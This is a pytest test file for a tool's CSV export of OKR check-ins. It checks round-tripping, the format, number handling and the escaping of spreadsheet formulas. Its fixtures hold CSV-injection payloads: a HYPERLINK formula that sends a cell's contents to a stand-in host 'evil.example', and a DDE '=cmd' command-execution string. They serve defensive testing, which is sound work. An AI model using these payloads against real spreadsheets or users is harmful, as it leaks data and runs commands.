"""Check-ins as CSV: every check-in round-trips, spreadsheet formulas are neutralised in text
cells while numbers stay numbers, and `okrdesk export FILE OUT.csv` writes the file."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from okrdesk.cli import main
from okrdesk.models.interchange import parse_json
from okrdesk.models.kinds import ElementKind
from okrdesk.models.okr_csv import (
    HEADER,
    check_ins_csv,
    check_ins_csv_bytes,
    escape_text,
    number_text,
    parse_check_ins_csv,
)
from okrdesk.models.okr_data import Direction
from okrdesk.models.storage import StrategyFile
from okrdesk.models.strategy import Strategy

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1", "-2", "@x",
           "\tTabbed", "\rCarriage", "'already quoted", "=1+1\nsecond line", "fine, \"quoted\""]


@pytest.fixture
def filled(strategy: Strategy) -> Strategy:
    st = strategy
    st.add_element(ElementKind.STRATEGY, "Build quality in", element_id="s1")
    st.add_objective("Checkout stops hurting", objective_id="o1", aligns_to=["s1"])
    st.add_objective("=cmd|' /C calc'!A0", objective_id="o2", aligns_to=["s1"])
    st.add_key_result("o1", "Defects fall from 20% to 5%", key_result_id="k1", baseline=20,
                      target=5, unit="%", direction=Direction.DECREASE)
    st.add_key_result("o2", "-Temperature stays below zero", key_result_id="k2", baseline=5,
                      target=-10, unit="-°C")
    st.check_in("k1", "2027-01-11", 12.5, 6, "Suite green, “finally”")
    st.check_in("k1", "2027-01-04", 19.0, 5)
    for n, note in enumerate(HOSTILE, start=1):
        st.check_in("k2", f"2027-02-{n:02d}", -2.5 * n, n % 11, note)
    st.check_in("k2", "2027-03-01", 1e20, 0)
    return st


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_csv_round_trips_every_check_in(filled: Strategy) -> None:
    snap = filled.snapshot()
    rows = parse_check_ins_csv(check_ins_csv(snap))
    assert len(rows) == len(snap.check_ins) == 2 + len(HOSTILE) + 1
    expected = [
        (kr.objective, snap.objective(kr.objective).title, kr.id, kr.title, kr.unit,  # type: ignore[union-attr]
         c.date, c.value, c.confidence, c.note)
        for kr in snap.key_results for c in snap.check_ins_of(kr.id)
    ]
    assert [(r["Objective id"], r["Objective"], r["Key result id"], r["Key result"], r["Unit"],
             r["Date"], float(r["Value"]), int(r["Confidence"]), r["Note"]) for r in rows] == (
        expected)
    assert [r["Score"] for r in rows[:2]] == ["0.07", "0.50"]  # 19 and 12.5 on 20 → 5


def test_the_csv_is_rfc_4180_with_the_documented_header(filled: Strategy) -> None:
    text = check_ins_csv(filled.snapshot())
    assert text.startswith(",".join(HEADER) + "\r\n")
    assert text.endswith("\r\n")
    assert rows_of(text)[1] == ["o1", "Checkout stops hurting", "k1",
                                "Defects fall from 20% to 5%", "%", "2027-01-04", "19", "5", "",
                                "0.07"]
    data = check_ins_csv_bytes(filled.snapshot())
    assert data.startswith(b"\xef\xbb\xbf" + b"Objective id,")  # Excel reads UTF-8 with a BOM
    assert parse_check_ins_csv(data.decode("utf-8")) == parse_check_ins_csv(text)


def test_text_cells_that_a_spreadsheet_would_run_are_escaped(filled: Strategy) -> None:
    rows = rows_of(check_ins_csv(filled.snapshot()))
    k2 = [row for row in rows if row[2] == "k2"]
    notes = [row[8] for row in k2]
    assert notes[:len(HOSTILE)] == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "'+1", "'-2", "'@x",
        "'\tTabbed", "'\rCarriage", "''already quoted", "'=1+1\nsecond line",
        "fine, \"quoted\""]
    assert {row[1] for row in k2} == {"'=cmd|' /C calc'!A0"}  # an objective's title too
    assert {row[3] for row in k2} == {"'-Temperature stays below zero"}
    assert {row[4] for row in k2} == {"'-°C"}
    risky = ("=", "+", "-", "@", "\t", "\r")
    text_columns = (0, 1, 2, 3, 4, 8)
    assert not [cell for row in rows[1:] for i in text_columns
                if (cell := row[i]).startswith(risky)]


def test_numbers_stay_numbers_even_when_negative(filled: Strategy) -> None:
    rows = rows_of(check_ins_csv(filled.snapshot()))
    k2 = [row for row in rows if row[2] == "k2"]
    assert [row[6] for row in k2[:3]] == ["-2.5", "-5", "-7.5"]  # not '-2.5: summable
    assert k2[-1][6] == "1e+20"
    assert [row[9] for row in k2[:2]] == ["0.50", "0.67"]  # 5 → -10: -2.5 is half-way
    assert (number_text(-0.0), number_text(3.0), number_text(0.1)) == ("0", "3", "0.1")


def test_escaping_is_undone_exactly_on_reading() -> None:
    for text in [*HOSTILE, "", "plain", "'", "''", "-", "a=b"]:
        assert parse_check_ins_csv(",".join(HEADER) + "\r\n" + _row_with_note(text))[0][
            "Note"] == text


def _row_with_note(note: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(
        ["o", "O", "k", "K", "", "2027-01-01", "1", "5", escape_text(note), "1.00"])
    return out.getvalue()


def test_the_documented_csv_is_what_the_documented_json_exports() -> None:
    doc_text = (Path(__file__).parent.parent / "docs" / "file-format.md").read_text("utf-8")
    example = doc_text.split("```json\n", 1)[1].split("```", 1)[0]
    csv_part = doc_text.split("## Check-ins as CSV", 1)[1]
    documented = csv_part.split("```text\n", 1)[1].split("```", 1)[0].splitlines()
    exported = check_ins_csv(parse_json(example).snapshot()).splitlines()
    assert exported[: len(documented)] == documented


def test_a_strategy_without_check_ins_gives_the_header_only(strategy: Strategy) -> None:
    assert check_ins_csv(strategy.snapshot()) == ",".join(HEADER) + "\r\n"


def test_reading_a_csv_that_is_not_an_export_is_refused() -> None:
    with pytest.raises(ValueError, match="not a check-in export of okrdesk"):
        parse_check_ins_csv("a,b\r\n1,2\r\n")


def test_okrdesk_export_writes_the_check_ins_as_csv(
    filled: Strategy, strategy_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    expected = check_ins_csv_bytes(filled.snapshot())
    filled.file.close()
    out = tmp_path / "check-ins.CSV"

    code = main(["export", str(strategy_path), str(out)])

    assert (code, capsys.readouterr().err) == (0, "")
    assert out.read_bytes() == expected
    again = StrategyFile.open(strategy_path)
    try:
        assert len(Strategy(again).snapshot().check_ins) == len(parse_check_ins_csv(
            out.read_text(encoding="utf-8")))
    finally:
        again.close()
